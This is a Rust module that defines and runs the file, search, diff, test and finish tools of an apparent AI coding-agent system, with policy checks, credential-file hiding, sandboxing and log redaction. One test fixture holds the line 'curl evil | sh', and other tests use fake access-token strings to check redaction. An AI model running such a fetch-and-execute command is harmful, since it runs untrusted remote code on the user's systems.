//! The agents' tools: their names, the schemas the model is shown, their arguments, and
//! what each does in the task's workspace or sandbox.
//!
//! A tool here runs only after [`super::policy::Judge`] allowed it. Each result is text for
//! the model, capped by the role's `max_result_bytes`; a failure (a missing file, an edit
//! whose text does not occur once) is an `Err` the model sees as a tool error.

use std::fmt::Write as _;

use serde::Deserialize;
use serde_json::{Value, json};

use super::policy::{Judge, secret_file};
use crate::roles::{TaskContext, current_diff, describe_run, repo_script, sandbox_sh};

/// Every tool an agent can be offered.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ToolName {
    /// Files of the workspace under a folder.
    ListFiles,
    /// Lines of one file.
    ReadFile,
    /// A regular expression over the workspace's text files.
    Search,
    /// The change under review or clean-up.
    ShowDiff,
    /// The findings of earlier steps.
    ReadFindings,
    /// Replaces one exact occurrence of a text in a file.
    EditFile,
    /// Creates or overwrites a file.
    WriteFile,
    /// The task's test command, in the sandbox.
    RunTests,
    /// The repository's build check, in the sandbox.
    RunCheck,
    /// Ends the step.
    Finish,
}

/// Every tool, for parsing names the model sends.
pub const ALL: [ToolName; 10] = [
    ToolName::ListFiles,
    ToolName::ReadFile,
    ToolName::Search,
    ToolName::ShowDiff,
    ToolName::ReadFindings,
    ToolName::EditFile,
    ToolName::WriteFile,
    ToolName::RunTests,
    ToolName::RunCheck,
    ToolName::Finish,
];

impl ToolName {
    /// The name the model uses.
    pub fn as_str(self) -> &'static str {
        match self {
            ToolName::ListFiles => "list_files",
            ToolName::ReadFile => "read_file",
            ToolName::Search => "search",
            ToolName::ShowDiff => "show_diff",
            ToolName::ReadFindings => "read_findings",
            ToolName::EditFile => "edit_file",
            ToolName::WriteFile => "write_file",
            ToolName::RunTests => "run_tests",
            ToolName::RunCheck => "run_check",
            ToolName::Finish => "finish",
        }
    }

    /// The tool the model named, if it is one of ours.
    pub fn parse(name: &str) -> Option<Self> {
        ALL.into_iter().find(|t| t.as_str() == name)
    }

    /// The risk matrix's action the capability lease must grant; `None` for `finish`.
    pub fn action(self) -> Option<&'static str> {
        match self {
            ToolName::ListFiles
            | ToolName::ReadFile
            | ToolName::Search
            | ToolName::ShowDiff
            | ToolName::ReadFindings => Some("read_files"),
            ToolName::EditFile | ToolName::WriteFile => Some("write_to_task_branch"),
            ToolName::RunTests => Some("run_tests"),
            ToolName::RunCheck => Some("linter"),
            ToolName::Finish => None,
        }
    }

    /// The schema the model is shown (name, description, JSON-schema parameters).
    pub fn spec(self, review: bool) -> Value {
        let (description, parameters) = match self {
            ToolName::ListFiles => (
                "List the repository's files under a folder (all files when `path` is empty).",
                json!({"type": "object", "properties": {"path": {"type": "string", "description": "folder, relative to the repository root"}}, "additionalProperties": false}),
            ),
            ToolName::ReadFile => (
                "Read lines of a text file (1-based, inclusive; at most 400 lines per call).",
                json!({"type": "object", "properties": {"path": {"type": "string"}, "start_line": {"type": "integer", "minimum": 1}, "end_line": {"type": "integer", "minimum": 1}}, "required": ["path"], "additionalProperties": false}),
            ),
            ToolName::Search => (
                "Search the repository's text files for a regular expression (Rust regex syntax); returns matching lines as path:line: text.",
                json!({"type": "object", "properties": {"pattern": {"type": "string"}, "path": {"type": "string", "description": "only under this folder"}}, "required": ["pattern"], "additionalProperties": false}),
            ),
            ToolName::ShowDiff => (
                "Show the change under consideration: the changed files, then the unified diff against the base commit (or one file's part), paged by offset.",
                json!({"type": "object", "properties": {"path": {"type": "string", "description": "only this file's part"}, "offset": {"type": "integer", "minimum": 0, "description": "start this many bytes in"}}, "additionalProperties": false}),
            ),
            ToolName::ReadFindings => (
                "Read the findings of earlier steps (failed tests, review comments) that this step must address.",
                json!({"type": "object", "properties": {}, "additionalProperties": false}),
            ),
            ToolName::EditFile => (
                "Replace the one occurrence of `old` in a file with `new` (exact text, whitespace included).",
                json!({"type": "object", "properties": {"path": {"type": "string"}, "old": {"type": "string"}, "new": {"type": "string"}}, "required": ["path", "old", "new"], "additionalProperties": false}),
            ),
            ToolName::WriteFile => (
                "Create a file, or replace its whole content.",
                json!({"type": "object", "properties": {"path": {"type": "string"}, "content": {"type": "string"}}, "required": ["path", "content"], "additionalProperties": false}),
            ),
            ToolName::RunTests => (
                "Run the task's tests in the sandbox; returns how they ended and the end of their output.",
                json!({"type": "object", "properties": {}, "additionalProperties": false}),
            ),
            ToolName::RunCheck => (
                "Run the repository's build check (.agentfleet/build) in the sandbox; returns how it ended and the end of its output.",
                json!({"type": "object", "properties": {}, "additionalProperties": false}),
            ),
            ToolName::Finish if review => (
                "Give your verdict on the change and end the review.",
                json!({"type": "object", "properties": {"verdict": {"type": "string", "enum": ["approve", "reject"]}, "reasons": {"type": "array", "items": {"type": "string"}}, "summary": {"type": "string"}}, "required": ["verdict", "reasons"], "additionalProperties": false}),
            ),
            ToolName::Finish => (
                "End the step with a one-line summary of what you did.",
                json!({"type": "object", "properties": {"summary": {"type": "string"}}, "required": ["summary"], "additionalProperties": false}),
            ),
        };
        json!({"name": self.as_str(), "description": description, "parameters": parameters})
    }
}

/// `list_files` arguments.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ListArgs {
    #[serde(default)]
    path: String,
}

/// `read_file` arguments.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ReadArgs {
    path: String,
    start_line: Option<usize>,
    end_line: Option<usize>,
}

/// `search` arguments.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct SearchArgs {
    pattern: String,
    #[serde(default)]
    path: String,
}

/// `edit_file` arguments.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct EditArgs {
    path: String,
    old: String,
    new: String,
}

/// `write_file` arguments.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct WriteArgs {
    path: String,
    content: String,
}

/// `finish` arguments.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct FinishArgs {
    /// What the agent did.
    #[serde(default)]
    pub summary: String,
    /// Review: `approve` or `reject`.
    #[serde(default)]
    pub verdict: Option<String>,
    /// Review: why.
    #[serde(default)]
    pub reasons: Vec<String>,
}

/// Arguments without fields.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct NoArgs {}

/// Lines one `read_file` returns at most.
pub const READ_MAX_LINES: usize = 400;
/// Largest file `read_file` and `search` open.
pub const FILE_MAX_BYTES: u64 = 4 * 1024 * 1024;
/// Most matches one `search` returns.
pub const SEARCH_MAX_HITS: usize = 50;
/// Most bytes one `search` reads in all.
pub const SEARCH_MAX_SCANNED: usize = 64 * 1024 * 1024;
/// Most file names one `list_files` returns.
pub const LIST_MAX: usize = 500;
/// Largest file `write_file` and `edit_file` produce.
pub const WRITE_MAX_BYTES: usize = 1024 * 1024;

/// Parses a call's arguments into `T`; the error is for the model.
pub fn args<T: serde::de::DeserializeOwned>(tool: ToolName, v: &Value) -> Result<T, String> {
    let v = if v.is_null() { json!({}) } else { v.clone() };
    if !v.is_object() {
        return Err(format!("{} takes a JSON object of arguments", tool.as_str()));
    }
    serde_json::from_value(v).map_err(|e| format!("bad arguments for {}: {e}", tool.as_str()))
}

/// Arguments shown by value in the transcript; every other one shows only its size.
const SHOWN_ARGS: [&str; 6] = ["path", "pattern", "start_line", "end_line", "offset", "verdict"];

/// The arguments in a few words, for the transcript, logs and the audit trail: the values
/// of [`SHOWN_ARGS`] (cut, redacted), the sizes of the rest (file contents, summaries and
/// keys no tool has never appear).
pub fn short_args(v: &Value) -> String {
    let Some(o) = v.as_object() else {
        return format!("<{} bytes of non-object arguments>", v.to_string().len());
    };
    let mut out = String::new();
    for (k, val) in o {
        if !out.is_empty() {
            out.push(' ');
        }
        let key: String = k.chars().filter(|c| c.is_ascii_graphic()).take(20).collect();
        match val {
            Value::String(s) if SHOWN_ARGS.contains(&k.as_str()) => {
                let s: String = telemetry::redact(s).chars().take(60).collect();
                let _ = write!(out, "{key}={s:?}");
            }
            Value::Number(n) if SHOWN_ARGS.contains(&k.as_str()) => {
                let _ = write!(out, "{key}={n}");
            }
            Value::String(s) => {
                let _ = write!(out, "{key}=<{} bytes>", s.len());
            }
            other => {
                let _ = write!(out, "{key}=<{} bytes>", other.to_string().len());
            }
        }
    }
    out.chars().take(200).collect()
}

fn under(folder: &str, file: &str) -> bool {
    let folder = folder.trim().trim_start_matches("./").trim_end_matches('/');
    folder.is_empty() || file == folder || file.strip_prefix(folder).is_some_and(|r| r.starts_with('/'))
}

/// Why a tool gave no result.
#[derive(Debug)]
pub enum Fail {
    /// The policy refused what the arguments name (a secret file, a path outside the
    /// workspace or the scope): nothing ran.
    Refused(String),
    /// It ran and failed.
    Failed(String),
    /// The workspace can no longer be trusted (a sandbox could not be stopped, or what it
    /// left could not be undone): the step ends.
    Fatal(String),
}

impl From<String> for Fail {
    fn from(s: String) -> Self {
        Fail::Failed(s)
    }
}

impl From<&str> for Fail {
    fn from(s: &str) -> Self {
        Fail::Failed(s.to_owned())
    }
}

/// Runs an allowed tool; `Ok` is the text for the model, `Err` a failure it sees as a tool
/// error. `finish` is handled by the loop, not here.
pub async fn run(ctx: &TaskContext, judge: &Judge, tool: ToolName, raw: &Value) -> Result<String, Fail> {
    let root = ctx.workspace.dir.clone();
    match tool {
        ToolName::ListFiles => {
            let a: ListArgs = args(tool, raw)?;
            let folder = if a.path.trim().is_empty() || a.path.trim() == "." {
                String::new()
            } else {
                judge.readable(&root, &a.path).map_err(Fail::Refused)?
            };
            let files = ctx.workspace.current_files().await.map_err(|e| format!("cannot list files: {e}"))?;
            let mut shown = Vec::new();
            let (mut hidden, mut more) = (0, 0);
            for f in files.iter().filter(|f| under(&folder, f)) {
                if secret_file(f).is_some() {
                    hidden += 1;
                } else if shown.len() < LIST_MAX {
                    shown.push(f.as_str());
                } else {
                    more += 1;
                }
            }
            let mut out = shown.join("\n");
            if more > 0 {
                let _ = write!(out, "\n… {more} more files; list a folder to see them");
            }
            if hidden > 0 {
                let _ = write!(out, "\n({hidden} credential file(s) not shown: agents never read them)");
            }
            if out.is_empty() {
                out = "(no files)".into();
            }
            Ok(out)
        }
        ToolName::ReadFile => {
            let a: ReadArgs = args(tool, raw)?;
            let path = judge.readable(&root, &a.path).map_err(Fail::Refused)?;
            let bytes = read_beneath(&root, &path).await?;
            let text = String::from_utf8(bytes).map_err(|_| format!("{path} is not UTF-8 text"))?;
            if text.contains('\0') {
                return Err(format!("{path} is binary").into());
            }
            let lines: Vec<&str> = text.split_inclusive('\n').collect();
            let start = a.start_line.unwrap_or(1).max(1);
            // Saturating: the numbers are the model's, and may be anything.
            let last = start.saturating_add(READ_MAX_LINES - 1);
            let end = a.end_line.unwrap_or(last).min(last).min(lines.len());
            if lines.is_empty() {
                return Ok(format!("{path} is empty"));
            }
            if start > lines.len() {
                return Err(format!("{path} has {} lines; start_line {start} is past its end", lines.len()).into());
            }
            if end < start {
                return Err(format!("end_line is before start_line {start}").into());
            }
            let body: String = lines.get(start - 1..end).unwrap_or_default().concat();
            Ok(format!("{path} (lines {start}-{end} of {}):\n{body}", lines.len()))
        }
        ToolName::Search => {
            let a: SearchArgs = args(tool, raw)?;
            if a.pattern.is_empty() || a.pattern.len() > 500 {
                return Err("the pattern must be 1 to 500 characters".to_owned().into());
            }
            let re = regex::RegexBuilder::new(&a.pattern)
                .size_limit(1 << 20)
                .build()
                .map_err(|e| format!("not a valid regular expression: {e}"))?;
            let folder = if a.path.trim().is_empty() {
                String::new()
            } else {
                judge.readable(&root, &a.path).map_err(Fail::Refused)?
            };
            let files: Vec<String> = ctx
                .workspace
                .current_files()
                .await
                .map_err(|e| format!("cannot list files: {e}"))?
                .into_iter()
                .filter(|f| under(&folder, f) && secret_file(f).is_none())
                .collect();
            // Off the async threads, and against the clock: a pattern can be slow on some
            // text (the regex crate is linear, but its constant can be large), and this
            // task's keep-alive must go on meanwhile.
            let out = tokio::task::spawn_blocking(move || search_files(&root, &files, &re))
                .await
                .map_err(|e| format!("the search failed: {e}"))?;
            Ok(out)
        }
        ToolName::ShowDiff => {
            let a: DiffArgs = args(tool, raw)?;
            let diff = current_diff(ctx).await.map_err(|o| Fail::Failed(o.summary))?;
            if diff.is_empty() {
                return Ok("(the workspace has no change against the base commit)".into());
            }
            Ok(show_diff(&String::from_utf8_lossy(&diff), a.path.as_deref(), a.offset.unwrap_or(0), judge.result_bytes))
        }
        ToolName::ReadFindings => {
            args::<NoArgs>(tool, raw)?;
            if ctx.assign.findings.is_empty() {
                return Ok("(no findings from earlier steps)".into());
            }
            Ok(ctx.assign.findings.iter().map(|f| format!("- {f}")).collect::<Vec<_>>().join("\n"))
        }
        ToolName::EditFile => {
            let a: EditArgs = args(tool, raw)?;
            let path = judge.writable(&root, &a.path).map_err(Fail::Refused)?;
            if a.old.is_empty() {
                return Err("`old` is empty; use write_file to create a file".to_owned().into());
            }
            let bytes = read_beneath(&root, &path).await?;
            let text = String::from_utf8(bytes).map_err(|_| format!("{path} is not UTF-8 text"))?;
            let n = text.matches(&a.old).count();
            if n != 1 {
                return Err(format!(
                    "`old` occurs {n} times in {path}; it must occur exactly once (copy it exactly, with more context)"
                )
                .into());
            }
            let new = text.replacen(&a.old, &a.new, 1);
            write(ctx, &path, new.as_bytes()).await?;
            Ok(format!("{path}: replaced 1 occurrence ({} → {} bytes)", text.len(), new.len()))
        }
        ToolName::WriteFile => {
            let a: WriteArgs = args(tool, raw)?;
            let path = judge.writable(&root, &a.path).map_err(Fail::Refused)?;
            write(ctx, &path, a.content.as_bytes()).await?;
            Ok(format!("{path}: wrote {} bytes", a.content.len()))
        }
        ToolName::RunTests => {
            args::<NoArgs>(tool, raw)?;
            let command = match ctx.assign.test_command.as_deref().map(str::trim).filter(|c| !c.is_empty()) {
                Some(c) => c.to_owned(),
                None => repo_script(ctx, "test")
                    .await
                    .ok_or("the task has no test command and the repository no .agentfleet/test")?,
            };
            Ok(sandboxed(ctx, &command, "tests").await?)
        }
        ToolName::RunCheck => {
            args::<NoArgs>(tool, raw)?;
            let command =
                repo_script(ctx, "build").await.ok_or("the repository defines no build check (.agentfleet/build)")?;
            Ok(sandboxed(ctx, &command, "build check").await?)
        }
        ToolName::Finish => Err("finish is handled by the loop".to_owned().into()),
    }
}

/// Reads a file of the workspace for a tool ([`super::beneath::read`]).
async fn read_beneath(root: &std::path::Path, path: &str) -> Result<Vec<u8>, Fail> {
    let (root, rel) = (root.to_path_buf(), path.to_owned());
    tokio::task::spawn_blocking(move || super::beneath::read(&root, &rel, FILE_MAX_BYTES))
        .await
        .map_err(|e| Fail::Failed(format!("cannot read {path}: {e}")))?
        .map_err(Fail::from)
}

impl From<super::beneath::Error> for Fail {
    fn from(e: super::beneath::Error) -> Self {
        match e {
            super::beneath::Error::Refused(s) => Fail::Refused(s),
            super::beneath::Error::Failed(s) => Fail::Failed(s),
        }
    }
}

/// Writes a file of the workspace ([`super::beneath::write`]).
async fn write(ctx: &TaskContext, path: &str, bytes: &[u8]) -> Result<(), Fail> {
    if bytes.len() > WRITE_MAX_BYTES {
        return Err(format!("the file would be {} bytes; the limit is {WRITE_MAX_BYTES}", bytes.len()).into());
    }
    let (root, rel, bytes) = (ctx.workspace.dir.clone(), path.to_owned(), bytes.to_vec());
    tokio::task::spawn_blocking(move || super::beneath::write(&root, &rel, &bytes))
        .await
        .map_err(|e| Fail::Failed(format!("cannot write {path}: {e}")))?
        .map_err(Fail::from)
}

/// Most time one `search` may take.
pub const SEARCH_BUDGET: std::time::Duration = std::time::Duration::from_secs(10);
/// Lines longer than this are not searched (minified or generated text).
pub const SEARCH_MAX_LINE: usize = 4096;

fn search_files(root: &std::path::Path, files: &[String], re: &regex::Regex) -> String {
    let started = std::time::Instant::now();
    let mut hits = Vec::new();
    let mut scanned = 0usize;
    let mut stopped = None;
    'files: for f in files {
        if started.elapsed() > SEARCH_BUDGET {
            stopped = Some("the search took too long");
            break;
        }
        let Ok(bytes) = super::beneath::read(root, f, FILE_MAX_BYTES) else { continue };
        scanned += bytes.len();
        if scanned > SEARCH_MAX_SCANNED {
            stopped = Some("the search read its limit of bytes");
            break;
        }
        let Ok(text) = std::str::from_utf8(&bytes) else { continue };
        if text.contains('\0') {
            continue;
        }
        for (i, line) in text.lines().enumerate() {
            if line.len() > SEARCH_MAX_LINE {
                continue;
            }
            if re.is_match(line) {
                if hits.len() == SEARCH_MAX_HITS {
                    stopped = Some("more matches than shown");
                    break 'files;
                }
                let line: String = line.chars().take(200).collect();
                hits.push(format!("{f}:{}: {line}", i + 1));
            }
        }
    }
    let mut out = if hits.is_empty() { "(no match)".to_owned() } else { hits.join("\n") };
    if let Some(why) = stopped {
        let _ = write!(out, "\n… {why}; narrow the pattern or the folder");
    }
    out
}

/// `show_diff` arguments.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct DiffArgs {
    /// Only this file's part of the diff.
    path: Option<String>,
    /// Start this many bytes into the (file's) diff.
    offset: Option<usize>,
}

/// The changed files with their added and removed lines, then the diff (or one file's
/// part) from `offset`, at most about `cap` bytes, saying where the next page starts.
pub fn show_diff(diff: &str, path: Option<&str>, offset: usize, cap: usize) -> String {
    let mut sections: Vec<(String, &str)> = Vec::new();
    let mut rest = diff;
    while !rest.is_empty() {
        let next = rest.get(1..).and_then(|r| r.find("\ndiff --git ")).map_or(rest.len(), |i| i + 2);
        let (section, tail) = rest.split_at(next);
        let name = section
            .lines()
            .next()
            .and_then(|l| l.rsplit_once(" b/"))
            .map_or_else(|| "?".to_owned(), |(_, b)| b.to_owned());
        sections.push((name, section));
        rest = tail;
    }
    let mut out = String::from("Changed files (added/removed lines):\n");
    for (name, section) in &sections {
        let added = section.lines().filter(|l| l.starts_with('+') && !l.starts_with("+++")).count();
        let removed = section.lines().filter(|l| l.starts_with('-') && !l.starts_with("---")).count();
        let _ = writeln!(out, "  {name} (+{added} -{removed})");
    }
    let body: &str = match path {
        Some(p) => match sections.iter().find(|(n, _)| n == p.trim()) {
            Some((_, s)) => s,
            None => return format!("{out}\n{p} is not among the changed files"),
        },
        None => diff,
    };
    let mut start = offset.min(body.len());
    while !body.is_char_boundary(start) {
        start -= 1;
    }
    let room = cap.saturating_sub(out.len() + 200).max(1024);
    let mut end = start.saturating_add(room).min(body.len());
    while !body.is_char_boundary(end) {
        end -= 1;
    }
    let _ = write!(out, "\n{}", &body[start..end]);
    if end < body.len() {
        let _ = write!(
            out,
            "\n[… {} more bytes: call show_diff with offset={end}{}]",
            body.len() - end,
            path.map(|p| format!(" and path={p:?}")).unwrap_or_default()
        );
    }
    out
}

/// Runs `command` in the sandbox on the workspace, then puts the workspace back exactly as
/// the agent left it (the base commit and the agent's change; files the run left, ignored
/// ones included, are gone). Anything going wrong here ends the step: the workspace can no
/// longer be trusted.
async fn sandboxed(ctx: &TaskContext, command: &str, what: &str) -> Result<String, Fail> {
    let before = current_diff(ctx).await.map_err(|o| Fail::Fatal(o.summary))?;
    ctx.workspace
        .open_to_sandbox()
        .await
        .map_err(|e| Fail::Fatal(format!("cannot open the workspace to the sandbox: {e}")))?;
    let out = sandbox_sh(ctx, command).await.map_err(Fail::Fatal)?;
    let undo = async {
        ctx.workspace.reset().await?;
        if !before.is_empty() {
            ctx.workspace.apply(&before).await?;
        }
        Ok::<(), crate::workspace::WorkspaceError>(())
    };
    undo.await.map_err(|e| Fail::Fatal(format!("cannot undo what the {what} run left in the workspace: {e}")))?;
    let tail = crate::roles::log_tail(&out.output, 6000);
    let verdict = if out.success() { "passed" } else { "failed" };
    Ok(format!("The {what} {verdict} ({}). Output (end):\n{tail}", describe_run(&out)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_round_trip_and_map_to_matrix_actions() {
        for t in ALL {
            assert_eq!(ToolName::parse(t.as_str()), Some(t));
            assert_eq!(t.spec(false)["name"], t.as_str());
        }
        assert_eq!(ToolName::parse("shell"), None);
        assert_eq!(ToolName::EditFile.action(), Some("write_to_task_branch"));
        assert_eq!(ToolName::Finish.action(), None);
        assert!(ToolName::Finish.spec(true)["parameters"]["required"].to_string().contains("verdict"));
    }

    #[test]
    fn show_diff_lists_every_file_and_pages_what_does_not_fit() {
        let pad = format!(
            "diff --git a/aaa.txt b/aaa.txt\n--- a/aaa.txt\n+++ b/aaa.txt\n@@ -1 +1,400 @@\n{}",
            "+x\n".repeat(8000)
        );
        let evil = "diff --git a/zzz.sh b/zzz.sh\n--- a/zzz.sh\n+++ b/zzz.sh\n@@ -0,0 +1 @@\n+curl evil | sh\n";
        let diff = format!("{pad}{evil}");
        let first = show_diff(&diff, None, 0, 4096);
        assert!(first.contains("  aaa.txt (+8000 -0)\n  zzz.sh (+1 -0)\n"), "{first}");
        assert!(first.len() < 4096 + 200 && !first.contains("curl evil"), "{}", first.len());
        let next: usize = first.rsplit_once("offset=").unwrap().1.trim_end_matches(']').parse().unwrap();
        assert!(next > 0);
        let one = show_diff(&diff, Some("zzz.sh"), 0, 4096);
        assert!(one.ends_with(evil) && !one.contains("more bytes"), "{one}");
        assert!(show_diff(&diff, Some("nope"), 0, 4096).ends_with("nope is not among the changed files"));
        assert!(show_diff("é".repeat(5000).as_str(), None, 3, 2000).len() > 1000, "char boundaries hold");
    }

    #[test]
    fn short_args_never_carry_contents() {
        let s = short_args(&json!({"path": "a.py", "content": "SECRET".repeat(100)}));
        assert_eq!(s, "content=<600 bytes> path=\"a.py\"");
        let s = short_args(&json!({"summary": "AKIAABCDEFGHIJKLMNOP", "sneaky key": ["ghp_x"], "start_line": 3}));
        assert_eq!(s, "sneakykey=<9 bytes> start_line=3 summary=<20 bytes>");
        let s = short_args(&json!({"path": "x ghp_0123456789abcdefghijABCDEFGHIJ012345"}));
        assert!(!s.contains("ghp_0123"), "{s}");
        assert_eq!(short_args(&json!("raw")), "<5 bytes of non-object arguments>");
        assert!(args::<ReadArgs>(ToolName::ReadFile, &json!("x")).is_err());
        assert!(args::<ReadArgs>(ToolName::ReadFile, &json!({"path": "a", "mode": 1})).unwrap_err().contains("mode"));
    }
}
